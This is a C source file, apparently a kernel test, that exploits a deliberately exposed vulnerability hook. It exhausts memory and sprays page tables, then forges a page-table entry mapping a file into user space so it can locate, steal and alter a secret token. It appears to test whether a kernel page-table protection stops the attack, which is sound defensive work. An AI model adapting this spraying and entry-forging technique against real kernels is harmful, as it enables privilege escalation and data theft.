// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the kernel take memory for page tables that the attacker can write to,
 * and forge an entry there.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sysinfo.h>
#include <time.h>
#include <unistd.h>

#include "files.h"
#include "tables.h"

/* Slots of a table: the one that the attacker fills, and the one it forges. */
#define FILLED	1
#define FORGED	256

/* Tables at once, and at most: more than are free in a pool, and in pieces. */
#define AT_ONCE	128
#define MOST	(256 * AT_ONCE)

/* With less beyond what it keeps for itself, the kernel would end the attack. */
#define FREE_LEAST	(12UL << 20)
#define KEPT_KB		"/proc/sys/vm/min_free_kbytes"

/* So much comes and goes meanwhile. */
#define FREE_SLACK	(2UL << 20)

/* The entry of each slot that is filled: all map the page of zeroes. */
static u64 filled;

static size_t span_size(void)
{
	return 1UL << vuln_info()->shift[KPKEYS_VULN_PMD];
}

struct spans reserve_spans(size_t max)
{
	size_t span = span_size();
	struct spans spans = { .max = max };

	spans.start = map_pages(NULL, (max + 1) * span);
	spans.start += span - (uintptr_t)spans.start % span;
	return spans;
}

/* Read only: pages of data would be taken from the memory for the tables. */
void fill_spans(struct spans *spans, size_t count)
{
	volatile char *slot = spans->start + FILLED * page_size();

	for (; count && spans->used < spans->max; count--)
		(void)slot[spans->used++ * span_size()];
	filled = vuln_entry(KPKEYS_VULN_SELF, (const void *)slot,
			    KPKEYS_VULN_PTE).value & ~vuln_info()->sync;
}

/* Does it look like a table with one filled slot? */
static bool is_table(const struct window *window, size_t page)
{
	u64 sync = vuln_info()->sync;

	return (window->read(page, FILLED) & ~sync) == filled &&
	       !(window->read(page, FILLED - 1) & ~sync) &&
	       !(window->read(page, FILLED + 1) & ~sync) &&
	       !(window->read(page, FORGED) & ~sync);
}

/* Returns the page of the window that is a table, or -1. */
long find_table(const struct window *window)
{
	size_t page;

	for (page = 0; page < window->pages; page++)
		if (is_table(window, page))
			return page;
	return -1;
}

void use_table(const struct window *window, size_t page,
	       const struct spans *spans, const char *path)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	size_t span = span_size(), i;
	char *last = spans->start + (spans->used - 1) * span +
		     (FORGED + 1) * page_size();

	window->write(page, FORGED, vuln_file_phys(path) | info->pte_user);
	sync_between(spans->start, last);

	/* Which span the table belongs to shows where the secret appears. */
	for (i = 0; i < spans->used; i++) {
		char *mapped = spans->start + i * span + FORGED * page_size();

		if (is_token(mapped)) {
			steal_and_alter(mapped);
			break;
		}
	}

	window->write(page, FORGED, info->sync);
	sync_between(spans->start, last);
	if (i == spans->used)
		die("the secret did not appear: the forged entry has no effect");
}

static size_t free_memory(void)
{
	struct sysinfo info;

	if (sysinfo(&info))
		die_errno("sysinfo");
	return info.freeram * info.mem_unit;
}

static size_t kept_memory(void)
{
	char text[32];

	if (!read_text(KEPT_KB, text, sizeof(text)))
		die_errno(KEPT_KB);
	return strtoul(text, NULL, 10) << 10;
}

static noreturn void hold_memory(size_t length, int ready)
{
	/* Whatever ends the attack, this ends as well. */
	if (prctl(PR_SET_PDEATHSIG, SIGKILL))
		die_errno("prctl");
	populated(length);
	close(ready);
	for (;;)
		pause();
}

static void have_memory_held(size_t length)
{
	int ends[2];
	char none;

	if (pipe(ends))
		die_errno("making a pipe");
	switch (fork()) {
	case -1:
		die_errno("fork");
	case 0:
		close(ends[0]);
		hold_memory(length, ends[1]);
	}
	close(ends[1]);
	if (read(ends[0], &none, 1))
		die_errno("waiting for the memory to be used");
	close(ends[0]);
}

/*
 * Have other processes use all memory but @left and what the kernel keeps for
 * itself, as long as the attack runs: what is freed next is then most of what
 * the kernel has for its tables. Those of an earlier attack may not have ended
 * yet, so look again.
 */
void use_up_memory(size_t left)
{
	const struct timespec pause = { .tv_nsec = 300 * 1000 * 1000 };
	size_t now = free_memory();

	left += kept_memory();
	while (now > left + FREE_SLACK) {
		have_memory_held(now - left);
		nanosleep(&pause, NULL);
		now = free_memory();
	}
}

void *populated(size_t length)
{
	void *p = map_pages(NULL, length);

	if (madvise(p, length, MADV_POPULATE_WRITE))
		die_errno("populating memory");
	return p;
}

/* Leaves nothing behind but what the window is. */
bool attack_by_window(const struct window *window, const char *path)
{
	struct spans spans = reserve_spans(MOST);
	size_t least = kept_memory() + FREE_LEAST;
	long page = -1;

	while (page < 0 && spans.used < spans.max && free_memory() > least) {
		fill_spans(&spans, AT_ONCE);
		page = find_table(window);
	}
	if (page >= 0)
		use_table(window, page, &spans, path);
	if (munmap(spans.start, spans.max * span_size()))
		die_errno("munmap");
	return page >= 0;
}
